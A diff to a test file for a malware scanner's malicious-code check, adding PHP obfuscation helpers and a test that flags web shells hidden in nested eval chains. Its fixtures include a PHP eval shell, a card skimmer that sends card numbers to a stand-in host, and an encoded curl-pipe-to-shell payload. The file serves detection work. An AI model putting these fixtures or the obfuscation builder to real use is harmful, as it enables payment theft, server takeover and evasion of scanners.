@@ -3,6 +3,7 @@
 // under other names), how much (whole up to 8 MiB, else head and tail, and it says so),
 // in which encodings, and what a finding carries (rule, file, line, a redacted excerpt,
 // a severity by family), never the payload.
+import { deflateRawSync } from 'node:zlib';
 import { describe, expect, it } from 'vitest';
 import { MaliciousCodeCheck } from '../../../src/checks/malicious-code/malicious-code.js';
 import { offerAll, ruleAndPath, runContentCheck } from '../unit/run-check.js';
@@ -11,6 +12,32 @@ const SHELL = `<?php if (isset($_POST['x'])) { eval($_POST['x']); }\n`;
 const SKIMMER = `setInterval(function(){var n=document.getElementById('cc_number').value;var c=document.getElementById('cvv').value;if(n.length>=15){fetch('https://jquery-cdn.test/g.php',{method:'POST',body:btoa(n+'|'+c)})}},500);\n`;
 /** A long opaque payload that must never reach a report. */
 const PAYLOAD = Buffer.from('system("curl -s https://drop.test/x | sh"); '.repeat(20)).toString('base64');
+
+const STD = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
+const CUSTOM = 'zyxwvutsrqponmlkjihgfedcbaZYXWVUTSRQPONMLKJIHGFEDCBA9876543210/+';
+
+/** `eval(gzinflate(base64_decode('…')))` of this code, nested `depth` times. */
+function encodeChain(code: string, depth: number): string {
+  let text = code;
+  for (let i = 0; i < depth; i++) text = `eval(gzinflate(base64_decode('${deflateRawSync(Buffer.from(text, 'latin1')).toString('base64')}')));`;
+  return `<?php ${text}`;
+}
+
+/** A file that decodes its own tail (the shape of a freely available PHP obfuscator): header, stage 2, payload. */
+function selfReading(code: string): string {
+  const swap = (text: string): string => text.replace(/[A-Za-z0-9+/]/g, (c) => CUSTOM[STD.indexOf(c)] ?? c);
+  const payload = swap(Buffer.from(code, 'latin1').toString('base64'));
+  const stage2 = swap(Buffer.from('$x=str_replace(1,2,3);eval($x);', 'latin1').toString('base64'));
+  const build = (skip: number): string => {
+    const stage1 = Buffer.from(`$f=$o($p,'rb');$r($f,0x${skip.toString(16)});$c=$d($t($r($f,0x${stage2.length.toString(16)}),'${CUSTOM}','${STD}'));eval($c);`).toString('base64');
+    return `<?php $p=__FILE__;$n=0x${payload.length.toString(16)};eval($d('${stage1}'));return;?>`;
+  };
+  let header = build(0);
+  // the header names its own length: build it until the number it holds is right
+  while (build(header.length).length !== header.length) header = build(header.length);
+  header = build(header.length);
+  return `${header}${stage2}${payload}`;
+}
 
 /** Minified code, about `size` bytes, of nothing but a library's look. */
 function bundle(size: number): string {
@@ -112,6 +139,19 @@ describe('the malicious-code check', () => {
     expect((result.findings ?? []).map((finding) => finding.rule)).toEqual(['js-payment-fields-sent-away']);
     expect(result.findings?.[0]?.detail).toMatch(/at byte \d+ \(in the file's last part\)/);
     expect(result.notes).toEqual([expect.stringMatching(/bundle\.min\.js \(12\.0 MiB\) was read in part: its first 4\.0 MiB and its last 4\.0 MiB; 4\.0 MiB in between were not scanned/)]);
+  });
+
+  it('unwraps nested eval chains and self-reading encoders: plain code hidden that way is let go, a shell is not', () => {
+    const plain = `class Acme_License_Helper_Data extends Mage_Core_Helper_Abstract { public function isValid($key) { return strlen($key) === 32; } }`;
+    const shell = `if (isset($_GET['c'])) { echo '<pre>'; system($_GET['c']); echo '</pre>'; }`;
+    const findings = runContentCheck(new MaliciousCodeCheck(), [
+      { path: 'shop/app/code/local/Acme/License/Helper/Data.php', content: encodeChain(plain, 12) },
+      { path: 'shop/app/code/local/Acme/License/Helper/Other.php', content: selfReading(plain) },
+      { path: 'shop/app/code/local/Acme/License/Model/Cron.php', content: encodeChain(shell, 12) },
+      { path: 'shop/app/code/local/Acme/License/Model/Check.php', content: selfReading(shell) },
+    ]);
+    expect(ruleAndPath(findings)).toEqual(['php-request-to-command shop/app/code/local/Acme/License/Model/Check.php', 'php-request-to-command shop/app/code/local/Acme/License/Model/Cron.php']);
+    expect(findings.map((finding) => finding.detail)).toEqual([expect.stringMatching(/inside a selfread layer/), expect.stringMatching(/inside a chain layer/)]);
   });
 
   it('is quiet on code that uses eval, base64 and remote scripts for a living', () => {
